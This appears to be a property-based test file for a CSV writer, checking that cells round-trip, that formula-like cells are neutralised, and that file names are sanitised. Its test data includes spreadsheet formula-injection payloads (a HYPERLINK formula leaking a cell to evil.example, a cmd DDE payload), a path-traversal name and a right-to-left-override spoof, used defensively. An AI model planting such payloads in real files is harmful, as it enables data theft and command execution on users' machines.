import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import * as fc from 'fast-check';

import { csvCell, csvRow, fileName } from '../../../../src/components/parts/csv/csv.js';

/** A reader of RFC 4180 that knows nothing of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < text.length;) {
    assert.equal(text[at], '"', 'every cell is quoted');
    let cell = '';
    for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
      if (at >= text.length) assert.fail('a cell does not end');
      if (text[at] === '"') at++;
      cell += text[at];
    }
    row.push(cell);
    at++;
    if (text[at] === ',') at++;
    else {
      assert.equal(text.slice(at, at + 2), '\r\n');
      rows.push(row);
      row = [];
      at += 2;
    }
  }
  return rows;
}

const withoutGuard = (cell: string) => cell.replace(/^'(?=[\s\S])/, '');
const hostile = fc
  .tuple(
    fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', '"', ' =', '＝', "'"),
    fc.string({ unit: 'grapheme' }),
  )
  .map((parts) => parts.join(''));

describe('a file of comma-separated values', () => {
  it('C3-71: reads back as what was written, whatever the cells are', () => {
    const cells = fc.array(
      hostile.filter((text) => !text.startsWith("'")),
      { minLength: 1 },
    );
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1 }), (rows) => {
        const read = readCsv(rows.map(csvRow).join(''));
        assert.deepEqual(
          read.map((row) => row.map(withoutGuard)),
          rows,
        );
      }),
    );
  });

  it('C3-71: no cell starts like a formula, whatever stands in it', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const [[cell = ''] = []] = readCsv(csvRow([text]));
        assert.doesNotMatch(cell, /^[\s\0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/);
      }),
    );
    for (const formula of [
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      '+1+cmd|"/C calc"!A0',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '  =1',
      '＝1',
    ])
      assert.equal(csvCell(formula), `"'${formula.replaceAll('"', '""')}"`);
    assert.equal(csvCell('1 − 2'), '"1 − 2"');
  });

  it('C3-71: a file name is one, and no path, device or other kind of file', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const name = fileName(text, 'csv');
        assert.match(name, /^[^\\/:*?"<>|\p{C}]{1,90}\.csv$/u);
        assert.doesNotMatch(name, /^[\s.-]/);
      }),
    );
    assert.equal(fileName('../../etc/passwd', 'csv'), 'etc-passwd.csv');
    assert.equal(fileName('Bestellungen 2026-11-21', 'csv'), 'Bestellungen 2026-11-21.csv');
    assert.equal(fileName('الطلبات', 'csv'), 'الطلبات.csv');
    assert.equal(fileName('NUL', 'csv'), 'file-NUL.csv');
    assert.equal(fileName('orders.exe\u202Evsc', 'csv'), 'orders.exe-vsc.csv');
    assert.equal(fileName('', 'csv'), 'file.csv');
  });
});
